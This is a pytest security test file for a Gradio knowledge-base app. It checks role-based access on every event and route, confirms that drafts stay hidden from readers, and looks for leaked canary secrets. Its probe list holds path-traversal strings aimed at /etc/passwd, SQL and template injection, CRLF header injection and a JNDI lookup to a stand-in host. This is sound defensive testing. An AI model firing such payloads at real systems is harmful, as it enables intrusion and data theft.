"""Without these a role could do by a posted event what the page does not offer it, or a stranger read the library.

A real app, every Gradio event by its number, and every route, as nobody, reader, curator and admin.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ingest.add import add_paths
from kb.access import Principal
from kb.accounts import Accounts
from kb.conversations import Conversations
from kb.knowledge_base import KnowledgeBase
from kb.settings import Settings
from kb.store import Store
from tests.browser.app_process import App

PASSWORD = "a sentence of some length"
NONE = "0123456789abcdef"
ROLES = ("reader", "curator", "admin")
OTHERS = "canaryothersquestion"
DRAFT = "canarydraftwords"
ASKED = "canaryaskedname 13800138000"


class Library:
    """The running app, what is in it, and a signed-in client for each role."""

    def __init__(self, folder: Path) -> None:
        home = folder / "home"
        with KnowledgeBase.open(Settings(home=home), write=True) as kb:
            good, draft = folder / "guide.txt", folder / f"{DRAFT}.txt"
            good.write_text("The starting dose of zolvarin is 500 mg twice a day, given with meals. " * 8)
            draft.write_text(f"{DRAFT} are not for readers. " * 20)
            add_paths(kb, [good], embed=False)
            add_paths(kb, [draft], embed=False, draft=True)
            self.documents = {d.file: d.id for d in kb.documents()}
            accounts = Accounts(kb.store)
            for role in ROLES:
                accounts.add(role, role, PASSWORD, by="test")
            kept = Conversations(kb.store)
            someone = Principal("someone-else", "", "reader")
            self.others = kept.start(someone, OTHERS).id
            self.answer = kept.begin(someone, OTHERS, conversation=self.others).id
        self.guide, self.draft = (self.documents[name] for name in ("guide.txt", f"{DRAFT}.txt"))
        self.app = App(home, api_per_minute=0, answers_at_once=2)
        self.clients = {"nobody": httpx.Client(base_url=self.app.url, timeout=120)}
        for role in ROLES:
            client = httpx.Client(base_url=self.app.url, timeout=120)
            assert client.post("/login", data={"name": role, "password": PASSWORD}).status_code == 303
            self.clients[role] = client

    def state(self) -> list[tuple[str, str, str]]:
        store = Store(self.app.home, read_only=True)
        try:
            return sorted((d.file, d.state, d.title) for d in store.documents())
        finally:
            store.close()

    def others_title(self) -> str:
        store = Store(self.app.home, read_only=True)
        try:
            found = Conversations(store).find(Principal("someone-else", "", "reader"))
            return found[0].title if found else ""
        finally:
            store.close()


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    made = Library(tmp_path_factory.mktemp("roles"))
    yield made
    for client in made.clients.values():
        client.close()
    made.app.stop()


def test_every_event_does_for_a_reader_only_what_a_reader_may(library: Library) -> None:
    before = library.state()
    told = drive(library, "reader", library.guide) + drive(library, "reader", library.draft)
    assert library.state() == before
    assert library.others_title() == OTHERS
    assert OTHERS not in told
    assert DRAFT not in told
    assert "500 mg" in told  # it did ask, and got its answer


def test_nobody_drives_no_event(library: Library) -> None:
    client = library.clients["nobody"]
    for event in range(len(config(library)["dependencies"])):
        body = {"fn_index": event, "session_hash": "nobody", "data": []}
        for path in ("/gradio_api/queue/join", "/gradio_api/run/predict"):
            assert client.post(path, json=body).status_code == 401
    assert client.get("/gradio_api/queue/data?session_hash=nobody").status_code == 401
    assert client.get("/config").status_code == 401
    assert client.get("/", headers={"accept": "text/html"}).headers["location"] == "/login"


def test_the_same_events_do_it_for_a_curator(library: Library) -> None:
    """Else the test above would pass because nothing was driven rightly."""
    told = drive(library, "curator", library.draft)
    assert DRAFT in told
    assert OTHERS not in told
    assert f"{DRAFT}.txt" not in [file for file, _, _ in library.state()]  # published, edited, removed at last
    assert "guide.txt" in [file for file, _, _ in library.state()]
    acts = {entry.action for entry in entries(library)}
    assert {"published", "edited", "removed", "asked", "login"} <= acts


ROUTES: list[tuple[str, str, dict[str, Any], dict[str, int]]] = [
    # method, path, body, status of nobody, reader, curator, admin; {guide} stands for a document's id
    ("GET", "/page-image/{guide}/1", {}, {"nobody": 401, "reader": 422, "curator": 422, "admin": 422}),
    ("POST", "/page/{guide}/1", {"json": {}}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("GET", "/passages/{guide}/1", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("GET", "/original/{guide}", {}, {"nobody": 401, "reader": 404, "curator": 404, "admin": 404}),
    ("GET", "/account", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("POST", "/account/password", {"data": {}}, {"nobody": 401, "reader": 422, "curator": 422, "admin": 422}),
    ("POST", "/account/keys/none/revoke", {}, {"nobody": 401, "reader": 404, "curator": 404, "admin": 404}),
    ("GET", "/users", {}, {"nobody": 401, "reader": 403, "curator": 403, "admin": 200}),
    ("POST", "/users", {"data": {}}, {"nobody": 401, "reader": 403, "curator": 403, "admin": 422}),
    ("GET", "/health", {}, {"nobody": 200, "reader": 200, "curator": 200, "admin": 200}),
    ("GET", "/login", {}, {"nobody": 200, "reader": 303, "curator": 303, "admin": 303}),
    ("GET", "/v1/models", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("POST", "/v1/embeddings", {"json": {"input": ""}}, {"nobody": 401, "reader": 422, "curator": 422, "admin": 422}),
    (
        "POST",
        "/v1/chat/completions",
        {"json": {"messages": [{"role": "user", "content": ASKED}]}},
        {"nobody": 401, "reader": 200, "curator": 200, "admin": 200},
    ),
    ("GET", "/api/status", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("GET", "/api/openapi.json", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    (
        "POST",
        "/api/search",
        {"json": {"question": ASKED}},
        {"nobody": 401, "reader": 200, "curator": 200, "admin": 200},
    ),
    ("GET", "/api/documents", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("GET", "/api/documents/{guide}", {}, {"nobody": 401, "reader": 200, "curator": 200, "admin": 200}),
    ("POST", "/api/documents", {"data": {}}, {"nobody": 401, "reader": 403, "curator": 422, "admin": 422}),
    ("GET", "/api/jobs/99999", {}, {"nobody": 401, "reader": 403, "curator": 422, "admin": 422}),
    ("POST", "/api/documents/{guide}/publish", {}, {"nobody": 401, "reader": 403, "curator": 200, "admin": 200}),
    (
        "POST",
        "/api/documents/0123456789abcdef/unpublish",
        {},
        {"nobody": 401, "reader": 403, "curator": 404, "admin": 404},
    ),
    ("DELETE", "/api/documents/0123456789abcdef", {}, {"nobody": 401, "reader": 403, "curator": 404, "admin": 404}),
    (
        "POST",
        "/api/feedback",
        {"json": {"answer_id": "{answer}", "verdict": "wrong"}},
        {"nobody": 401, "reader": 404, "curator": 404, "admin": 404},
    ),
]


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: f"{route[0]} {route[1]}")
def test_every_route_asks_who_it_is(library: Library, route: tuple[str, str, dict[str, Any], dict[str, int]]) -> None:
    method, path, body, expected = route
    path = path.replace("{guide}", library.guide)
    body = json.loads(json.dumps(body).replace("{answer}", library.answer))
    for role, status in expected.items():
        answer = library.clients[role].request(method, path, **body)
        assert answer.status_code == status, (role, answer.text[:200])


def test_every_route_is_in_the_list_above(library: Library) -> None:
    described = library.clients["admin"].get("/api/openapi.json").json()["paths"]
    listed = {(method, re.sub(r"\{guide\}|0123456789abcdef|99999", "{}", path)) for method, path, _, _ in ROUTES}
    for path, methods in described.items():
        for method in methods:
            assert (method.upper(), re.sub(r"\{\w+\}", "{}", path)) in listed


def test_drafts_do_not_exist_for_readers(library: Library) -> None:
    listed = library.clients["reader"].get("/api/documents").text
    assert DRAFT not in listed
    for path in (f"/api/documents/{library.draft}", f"/passages/{library.draft}/1", f"/original/{library.draft}"):
        assert library.clients["reader"].get(path).status_code == 404


_ODD = [
    "../" * n + name for n in (1, 4, 9) for name in ("etc/passwd", "catalog.sqlite", "home/catalog.sqlite", "blobs")
] + [
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "..\\..\\..\\etc\\passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "\x00",
    "a%00b",
    "%0d%0aSet-Cookie:x=1",
    "0" * 5000,
    "' OR 1=1 --",
    "1;DROP TABLE documents",
    "🙂",
    "%F0%9F",
    "-1",
    "9" * 40,
    "NaN",
    "{{7*7}}",
    "${jndi:ldap://outside.example/x}",
    "*",
    "?",
    "#",
    ".",
    "..",
]
_PLACES = [
    "/page-image/{}/1",
    "/page-image/{guide}/{}",
    "/passages/{}/1",
    "/original/{}",
    "/api/documents/{}",
    "/api/jobs/{}",
    "/assets/{}",
    "/static/{}",
    "/svelte/{}",
    "/gradio_api/file={}",
    "/file={}",
    "/v1/{}",
]


def test_no_path_name_or_id_leads_out(library: Library) -> None:
    client = library.clients["admin"]
    for place in _PLACES:
        for odd in _ODD:
            url = library.app.url.rstrip("/") + place.replace("{guide}", library.guide).replace("{}", odd)
            try:
                answer = client.get(httpx.URL(url))
            except httpx.InvalidURL:
                continue
            assert answer.status_code < 500, (place, odd, answer.text[:200])
            assert b"root:" not in answer.content
            assert b"SQLite format" not in answer.content
            assert "set-cookie" not in answer.headers


def test_questions_passwords_and_keys_are_in_the_catalog_alone(library: Library) -> None:
    """Last: all that was asked and typed above, in every file but the store."""
    library.clients["reader"].post("/login", data={"name": ASKED, "password": ASKED})
    canaries = [ASKED.encode(), OTHERS.encode(), PASSWORD.encode(), b"vmk_"]
    looked = 0
    for path in sorted(library.app.home.parent.rglob("*")):
        if path.is_file() and not path.name.startswith("catalog.sqlite"):
            looked += 1
            content = path.read_bytes()
            assert [c for c in canaries if c in content] == [], path
    assert looked > 3
    assert ASKED not in library.app.log
    assert not [entry for entry in entries(library) if ASKED in json.dumps(entry.detail) + entry.object + entry.actor]


# -- driving -----------------------------------------------------------------------------------------------------


def config(library: Library) -> dict[str, Any]:
    found: dict[str, Any] = library.clients["admin"].get("/config").json()
    return found


def entries(library: Library) -> list[Any]:
    from kb.audit import Audit

    store = Store(library.app.home, read_only=True)
    try:
        assert not Audit(store).verify().problem
        return list(Audit(store).entries())
    finally:
        store.close()


def drive(library: Library, role: str, document: str) -> str:
    """Post every event, clicks with every act that the page has; removal last. Returns all that came back."""
    client = library.clients[role]
    shape = config(library)
    parts = {part["id"]: part for part in shape["components"]}
    session = f"{role}-{document}"[:40]
    acts = [f"pick:{document}", f"open:{library.others}", f"rename:{library.others}", f"really:{library.others}"]
    acts += [f"delete:{library.others}", "list:", "retry:0", "helpful:0", "wrong:0", "sources:0", "library", "more:"]
    acts += ["putaway:", "whole:", "one:tuned@aa|drugs/1", "judge:a:q1"]
    acts += [f"{act}:{document}" for act in ("ask", "publish", "unpublish", "edit")]
    events = {event["id"]: event for event in shape["dependencies"]}
    clicked = [
        number
        for number, event in events.items()
        if any(how == "click" and kind_of(parts, target) == "html" for target, how in event["targets"])
    ]
    told = ""
    steps = [(number, act) for number in clicked for act in acts]
    steps += [(number, "") for number in events if number not in clicked]
    steps += [(number, f"remove:{document}") for number in clicked]
    for number, act in steps:
        data = [value_for(parts[part], document, library) for part in events[number]["inputs"]]
        told += run(client, events[number], data, session, {"act": act} if act else None)
    return told


def kind_of(parts: dict[int, Any], target: Any) -> str:
    return str(parts[target]["type"]) if target in parts else ""


def value_for(part: dict[str, Any], document: str, library: Library) -> Any:
    """Something that the component could have sent, pointed at what it should not reach."""
    kind, name = part["type"], part["props"].get("elem_id") or ""
    if kind == "uploadbutton":
        path = str(library.app.home / "catalog.sqlite")
        return [{"path": path, "orig_name": "x.txt", "meta": {"_type": "gradio.FileData"}}]
    if kind == "textbox":
        said = {"vm-question": "What is the starting dose of zolvarin?", "vm-scope-date": "", "vm-field-issued": ""}
        return said.get(name, "Changed")
    if kind == "radio":
        return "en"
    if kind == "state":
        return document
    return {"checkbox": False, "number": 1}.get(kind)


def run(
    client: httpx.Client, event: dict[str, Any], data: list[Any], session: str, clicked: dict[str, str] | None
) -> str:
    """Have one event done as the page would, at once or through the queue; all that came of it."""
    body = {"fn_index": event["id"], "session_hash": session, "data": data, "event_data": clicked, "trigger_id": None}
    if event["queue"] is False:
        answer = client.post("/gradio_api/run/predict", json=body)
        assert answer.status_code in (200, 500), answer.text  # 500 is what Gradio makes of an event that refuses
        return answer.text
    joined = client.post("/gradio_api/queue/join", json=body)
    assert joined.status_code == 200, joined.text
    told = ""
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            told += line + "\n"
            if '"close_stream"' in line or '"process_completed"' in line:
                break
    return told
